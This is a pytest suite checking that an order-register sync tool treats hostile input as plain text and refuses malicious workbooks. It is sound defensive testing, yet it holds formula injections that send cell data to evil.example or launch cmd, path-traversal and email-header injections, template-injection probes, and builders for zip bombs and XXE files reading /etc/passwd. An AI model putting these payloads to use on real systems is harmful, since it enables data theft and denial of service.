"""Texts and files that mean harm, and a disk or a desk that is not free: scenarios 20 to 24."""

from __future__ import annotations

import csv
import json
import resource
import signal
import subprocess
import sys
import zipfile
from collections.abc import Callable, Sequence
from io import BytesIO
from pathlib import Path
from typing import NamedTuple

import openpyxl
import pytest

from tests.acceptance.desk import Desk, columns, md5, onsite, tree
from tests.acceptance.sheet_desk import SheetDesk
from tests.fuzz.test_attacks import HEADERS
from tests.scenarios.test_faults import LATER, complete, is_invoiced_once, numbers
from tests.scenarios.test_people import AFTER
from tests.sync.post_office import opened, text
from tests.sync.running import ROOT

TEXTS = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "full width": "＝1+1",
    "full width plus": "＋1+1",
    "after a line break": "x\n=1+1",
    "after CR and LF": "x\r\n=1+1",
    "after a tab": "\t=1+1",
    "from the web": '=IMPORTXML("http://evil.example","//a")',
}
FIELDS = (
    "Client reference", "Work description", "Site address", "Site contact", "Notes", "Ordered by", "Billing reference",
    "Coordinator", "Floor", "Entry instructions",
)  # fmt: skip
FORM = "Form responses 1"


def answered(desk: Desk, texts: Sequence[str], **more: str) -> Path:
    """A download of the form with an answer for each text, in every field that takes one."""
    path = desk.folder / "answers.csv"
    base = {
        "Client": "Kitsunebi Project Services K.K.", "Order email": "dispatch@kitsunebi.example.co.jp",
        "Planned start": "2026-12-10 09:00", "Language": "English", **more,
    }  # fmt: skip
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, ["Timestamp", *base, *FIELDS], quoting=csv.QUOTE_ALL)
        writer.writeheader()
        for second, text in enumerate(texts):
            writer.writerow({"Timestamp": f"2026/11/24 9:30:{second:02}", **base, **dict.fromkeys(FIELDS, text)})
    return path


def formulas(desk: Desk) -> set[str]:
    """Every formula in the register."""
    if isinstance(desk, SheetDesk):
        sheets = desk.server.book(desk.key).sheets
        return {str(cell.formula) for sheet in sheets for row in sheet.rows for cell in row.values() if cell.formula}
    book = openpyxl.load_workbook(desk.path)
    return {str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"}


@pytest.mark.scenario(20)
def test_20_texts_that_look_like_formulas(desk: Desk) -> None:
    """From the form, in the tab Orders, the Log and wherever they are repeated: text, and as it was written."""
    before = formulas(desk)
    desk.sync("--form-csv", answered(desk, list(TEXTS.values())), now=LATER)
    assert formulas(desk) == before
    found = [row["Notes"] for row in desk.rows("Orders") if str(row["Source"]).startswith("form ")]
    assert [str(text).replace("\r\n", "\n") for text in found] == [t.replace("\r\n", "\n") for t in TEXTS.values()]
    assert desk.sync(now=AFTER)["changes"] == []


@pytest.mark.scenario(20)
def test_20_in_the_form_tab(desk: Desk) -> None:
    with desk.edited() as book:
        sheet = book[FORM]
        for row, text in enumerate(TEXTS.values(), 2):
            for header, value in {"Timestamp": f"2026/11/24 9:30:{row:02}", "Notes": text, "Client": text}.items():
                cell = sheet.cell(row, columns(sheet)[header])
                cell.value, cell.data_type = value, "s"
    before = formulas(desk)
    desk.sync(now=LATER)
    assert formulas(desk) == before
    assert len([row for row in desk.rows("Orders") if str(row["Source"]).startswith("form ")]) == len(TEXTS)


LITERAL = {
    "path upwards": "../../../../etc/cron.d/evil",
    "path of Windows": "..\\..\\C:\\Windows\\win.ini",
    "header": "Ken\r\nBcc: everyone@evil.example",
    "template": "{{ 7*191 }}{% for x in range(9) %}{{ x }}{% endfor %}",
    "template that calls": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "format": "%s%n {0.__class__} $(id) `id` ${HOME}",
}


@pytest.mark.scenario(24)
def test_24_hostile_texts_are_literal(desk: Desk) -> None:
    """They come in, are told to people, and lead nowhere: no file elsewhere, no header, nothing carried out."""
    files = tree(desk.folder)
    outside = sorted(path.name for path in desk.folder.parent.iterdir())
    desk.sync("--form-csv", answered(desk, list(LITERAL.values())), now=LATER)
    desk.sync(now="2026-11-24T10:20+09:00")  # messages wait until flags have stood for a while
    found = [str(row["Notes"]).replace("\r\n", "\n") for row in desk.rows("Orders")]
    assert all(text.replace("\r\n", "\n") in found for text in LITERAL.values())
    ids = {str(row["Order ID"]) for row in desk.rows("Orders") if str(row["Source"]).startswith("form ")}
    mails = [path for path in (desk.folder / "outbox").rglob("*.eml") if path.parent.name in ids]
    assert len({path.parent for path in mails}) == len(LITERAL)
    for mail in map(opened, mails):
        assert {name.lower() for name in mail} <= HEADERS
        assert [address.addr_spec for address in mail["To"].addresses] == ["dispatch@kitsunebi.example.co.jp"]
        assert str(7 * 191) not in text(mail) and "<class" not in text(mail)
    assert sorted(path.name for path in desk.folder.parent.iterdir()) == outside
    grown = {name.split("/")[0] for name in tree(desk.folder).keys() - files.keys()}
    assert grown <= {"outbox", "answers.csv", ".onsite-outbox", ".onsite-backups"}


@pytest.mark.scenario(24)
@pytest.mark.parametrize("value", ["../INV", "I/N", "IN\nV", "{{ 7 }}"])
def test_24_a_setting_that_would_name_files_elsewhere(workbook: Desk, value: str) -> None:
    workbook.settle({"Invoice prefix": value})
    assert "Invoice prefix" in workbook.refused(now=LATER)


@pytest.mark.scenario(24)
def test_24_an_invoice_for_a_hostile_client(workbook: Desk) -> None:
    """The client's name is in the file's name, its address in the head of the mail, the work in the subject."""
    name = "../../evil/\r\n{{ 7*191 }}"
    with workbook.edited() as book:
        sheet = book["Clients"]
        row = next(r for r in range(2, 20) if str(sheet.cell(r, 1).value).startswith("Quillfern"))
        sheet.cell(row, 1).value = sheet.cell(row, columns(sheet)["Billing name"]).value = name
    workbook.type("S-04", {"Client": name, "Work description": "{{ 7*191 }}\r\nBcc: a@evil.example", "Currency": None})
    complete(workbook)
    workbook.sync(now=LATER)
    (file,) = (workbook.folder / "invoices").glob("*INV-2026-0003*")
    assert not set('\\/:*?"<>|\r\n') & set(file.name)
    page = openpyxl.load_workbook(file).worksheets[0]
    cells = [str(cell.value) for row in page.iter_rows() for cell in row if cell.value]
    assert any("{{ 7*191 }}" in text for text in cells) and not any(str(7 * 191) in text for text in cells)
    (mail,) = (workbook.folder / "outbox" / "ORD-2026-0003").glob("*invoice*.eml")
    assert {name.lower() for name in opened(mail)} <= HEADERS and len(opened(mail)["To"].addresses) == 1


@pytest.mark.scenario(24)
@pytest.mark.parametrize("email", ["a@acme.example\r\nBcc: b@evil.example", "a@acme.example\nX: y", "a@b@evil.example"])
def test_24_an_address_that_is_a_header(workbook: Desk, email: str) -> None:
    workbook.type("S-12", {"Order email": email})
    found = workbook.sync(now=LATER)
    flags = [flag["code"] for order in found["orders"] for flag in order["flags"] if flag["column"] == "Order email"]
    assert flags == ["email-invalid"]
    workbook.sync(now="2026-11-24T10:30+09:00")
    assert not list((workbook.folder / "outbox").rglob("*missing*.eml"))


EVIL = "=1+1\r\nBcc: everyone@evil.example\r\n{{ 7*191 }} ../../x"


@pytest.mark.scenario(20, 24)
def test_20_24_a_hostile_reason_of_a_credit_note(desk: Desk) -> None:
    """It stands in the Log, on the note and in the mail: as text."""
    before = formulas(desk)
    done = desk.call("credit", "INV-2026-0002", "--reason", EVIL, "--now", LATER, "--out", desk.folder)
    assert done.code == 0, done.err
    (entry,) = desk.log("credit")
    assert formulas(desk) == before and "{{ 7*191 }}" in entry["Why"]
    (file,) = (desk.folder / "invoices").glob("*INV-2026-0003*")
    cells = [cell for row in openpyxl.load_workbook(file).worksheets[0].iter_rows() for cell in row if cell.value]
    assert not [cell for cell in cells if cell.data_type == "f" or str(7 * 191) in str(cell.value)]
    assert any("{{ 7*191 }}" in str(cell.value) for cell in cells)
    mails = list(map(opened, (desk.folder / "outbox" / "ORD-2026-0002").glob("*.eml")))
    assert mails and all({name.lower() for name in found} <= HEADERS for found in mails)


@pytest.mark.scenario(24)
@pytest.mark.parametrize("setting", ["Company name", "Company email"])
def test_24_a_sender_that_is_a_header(workbook: Desk, setting: str) -> None:
    workbook.settle({setting: "us@ecorpone.example\r\nBcc: everyone@evil.example"})
    complete(workbook)
    workbook.sync(now=LATER)
    (mail,) = (workbook.folder / "outbox" / "ORD-2026-0003").glob("*.eml")
    assert {name.lower() for name in opened(mail)} <= HEADERS and len(opened(mail)["From"].addresses) == 1
    assert "evil" not in str(opened(mail)["From"])


OLE = bytes.fromhex("d0cf11e0a1b11ae1")
SHEET = "xl/worksheets/sheet1.xml"


def with_parts(path: Path, parts: dict[str, bytes]) -> None:
    """The workbook with some parts put in the place of its own, or beside them."""
    with zipfile.ZipFile(path) as archive:
        old = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in {**old, **parts}.items():
            archive.writestr(name, data)


def bomb_of_cells(path: Path) -> None:
    """A sheet of 200 MB that unpacks from less than 1."""
    row = b'<row r="1"><c r="A1"><v>1</v></c></row>'
    head = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    with_parts(path, {SHEET: head + row * (200_000_000 // len(row)) + b"</sheetData></worksheet>"})


def entity(path: Path, system: bool) -> None:
    with zipfile.ZipFile(path) as archive:
        text = archive.read(SHEET).decode().partition("?>")[2] or archive.read(SHEET).decode()
    inner = 'SYSTEM "file:///etc/passwd"' if system else '"lol"'
    more = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    doctype = f"<!DOCTYPE x [<!ENTITY a0 {inner}>{more}]>"
    with_parts(path, {SHEET: (doctype + text.replace("<v>", "<v>&a9;", 1)).encode()})


def nested(path: Path) -> None:
    """A zip whose only part is another one, ten deep."""
    data = path.read_bytes()
    for _ in range(10):
        out = BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("register.xlsx", data)
        data = out.getvalue()
    path.write_bytes(data)


HOSTILE: dict[str, Callable[[Path], object]] = {
    "a bomb beside the sheets": lambda path: with_parts(path, {"xl/media/image99.png": bytes(200_000_000)}),
    "a bomb of cells": bomb_of_cells,
    "a bomb of many parts": lambda path: with_parts(
        path, {f"xl/worksheets/more{n}.xml": bytes(15_000_000) for n in range(14)}
    ),
    "an entity that is a file": lambda path: entity(path, True),
    "entities that grow": lambda path: entity(path, False),
    "a zip in a zip": nested,
    "no zip": lambda path: path.write_bytes(b"Order ID,Status\n" * 1000),
    "nothing": lambda path: path.write_bytes(b""),
    "zeros": lambda path: path.write_bytes(bytes(50_000_000)),
    "an .xls": lambda path: path.write_bytes(OLE + bytes(4096)),
    "encrypted": lambda path: path.write_bytes(OLE + bytes(1000) + "EncryptedPackage".encode("utf-16-le") + bytes(500)),
}
MOST_MEMORY = 150 << 20
LAUNCHER = """
import json, os, sys
child = os.posix_spawn(sys.argv[1], sys.argv[1:], os.environ)
_, status, used = os.wait4(child, 0)
found = os.waitstatus_to_exitcode(status), used.ru_maxrss * 1024
print(json.dumps(found), file=sys.stderr)
"""
"""Starts a program and tells its exit code and the most memory that it held.

A process that a large one starts is counted with the memory of that one, so a small one starts it.
"""


class Measured(NamedTuple):
    """What a call of the installed program came to, and its memory in bytes at most."""

    code: int
    memory: int
    said: list[str]


def measured(*arguments: object) -> Measured:
    command = [sys.executable, "-S", "-c", LAUNCHER, sys.executable, "-m", "sync.cli", *map(str, arguments)]
    done = subprocess.run(command, capture_output=True, encoding="utf-8", cwd=ROOT, timeout=60, check=True)
    *said, last = done.stderr.splitlines()
    code, memory = json.loads(last)
    return Measured(code, memory, said)


@pytest.mark.scenario(21)
@pytest.mark.parametrize("what", HOSTILE)
def test_21_files_that_are_refused(workbook: Desk, what: str) -> None:
    HOSTILE[what](workbook.path)
    before = md5(workbook.path)
    found = measured("sync", workbook.path, "--now", LATER)
    (line,) = found.said
    assert found.code == 3 and line.startswith("onsite: ")
    assert found.memory < MOST_MEMORY and md5(workbook.path) == before


@pytest.mark.scenario(21)
def test_21_by_every_command(workbook: Desk) -> None:
    bomb_of_cells(workbook.path)
    before = md5(workbook.path)
    for command in ("init", "doctor", "check"):
        found = measured(command, workbook.path)
        assert (found.code, md5(workbook.path)) == (3, before) and found.memory < MOST_MEMORY


EXCEL = bytes([8]) + b"Ken Sato".ljust(54) + bytes([8, 0]) + "Ken Satō".ljust(54).encode("utf-16-le")
OFFICE = b",naomi,elsewhere.example,24.11.2026 09:30,file:///home/naomi/.config/libreoffice/4;"
LOCKS = {"~$register.xlsx": (EXCEL, "Ken Sat"), ".~lock.register.xlsx#": (OFFICE, "naomi")}
WRITING = {
    "sync": (),
    "credit": ("INV-2026-0001", "--reason", "x"),
    "undo": ("20261124-100000-1",),
    "init": (),
}


@pytest.mark.scenario(22)
@pytest.mark.parametrize(
    ("lock", "command"), [*(("~$register.xlsx", command) for command in WRITING), (".~lock.register.xlsx#", "sync")]
)
def test_22_open_elsewhere(workbook: Desk, lock: str, command: str) -> None:
    """Every command that would write is refused, says by whom, and leaves the folder as it is."""
    complete(workbook)
    if command == "init":
        with workbook.edited() as book:
            del book["Standard items"]
    content, who = LOCKS[lock]
    (workbook.folder / lock).write_bytes(content)
    before = documents(workbook)
    done = workbook.call(command, *WRITING[command], "--now", LATER)
    assert done.code == 3 and who in done.err and len(done.err.splitlines()) == 1
    assert documents(workbook) == before
    (workbook.folder / lock).unlink()
    assert workbook.call(command, *WRITING[command], "--now", LATER).code == 0


def documents(desk: Desk) -> dict[str, str]:
    """Every file that people see."""
    return {name: data for name, data in tree(desk.folder).items() if not name.startswith(".")}


@pytest.mark.scenario(22)
def test_22_a_scheduled_run_says_by_whom(workbook: Desk) -> None:
    workbook.type("S-11", {"Site phone": "03-1234-5678"})
    (workbook.folder / "~$register.xlsx").write_bytes(EXCEL)
    before = md5(workbook.path)
    done = onsite("run", "--once", "--log-json", workbook.path)
    (line,) = map(json.loads, done.out.splitlines())
    assert (done.code, line["exit"], md5(workbook.path)) == (3, 3, before) and "Ken Sat" in line["said"]


def with_little_room(most: int, *arguments: object) -> subprocess.CompletedProcess[str]:
    """The program as a process that may write no file larger than this: stands for a full disk."""

    def limit() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (most, most))

    command = [sys.executable, "-B", "-m", "sync.cli", *map(str, arguments)]
    return subprocess.run(command, capture_output=True, encoding="utf-8", cwd=ROOT, preexec_fn=limit, timeout=60)


@pytest.mark.scenario(23)
def test_23_no_room_for_the_workbook(workbook: Desk) -> None:
    complete(workbook)
    before, backups = documents(workbook), workbook.files(".onsite-backups")
    done = with_little_room(workbook.path.stat().st_size // 2, "sync", workbook.path, "--now", LATER)
    assert done.returncode == 3 and "no room" in done.stderr and done.stdout == ""
    assert documents(workbook) == before
    assert not list(workbook.folder.rglob("*.tmp")) and workbook.files(".onsite-backups") == backups
    workbook.sync(now=AFTER)
    is_invoiced_once(workbook, AFTER)


@pytest.mark.scenario(23)
def test_23_no_room_for_the_documents(sheet: SheetDesk) -> None:
    """The register is written, the invoice isn't: exit 5, and the next run writes the same one."""
    complete(sheet)
    done = with_little_room(2_000, "sync", sheet.key, "--now", LATER, "--out", sheet.folder)
    assert done.returncode == 5 and numbers(sheet)[-1] in done.stdout + done.stderr and len(sheet.files()) == 2
    assert not [path for path in sheet.folder.rglob("*") if path.suffix in (".tmp", ".part")]
    sheet.sync(now=AFTER)
    is_invoiced_once(sheet, AFTER)
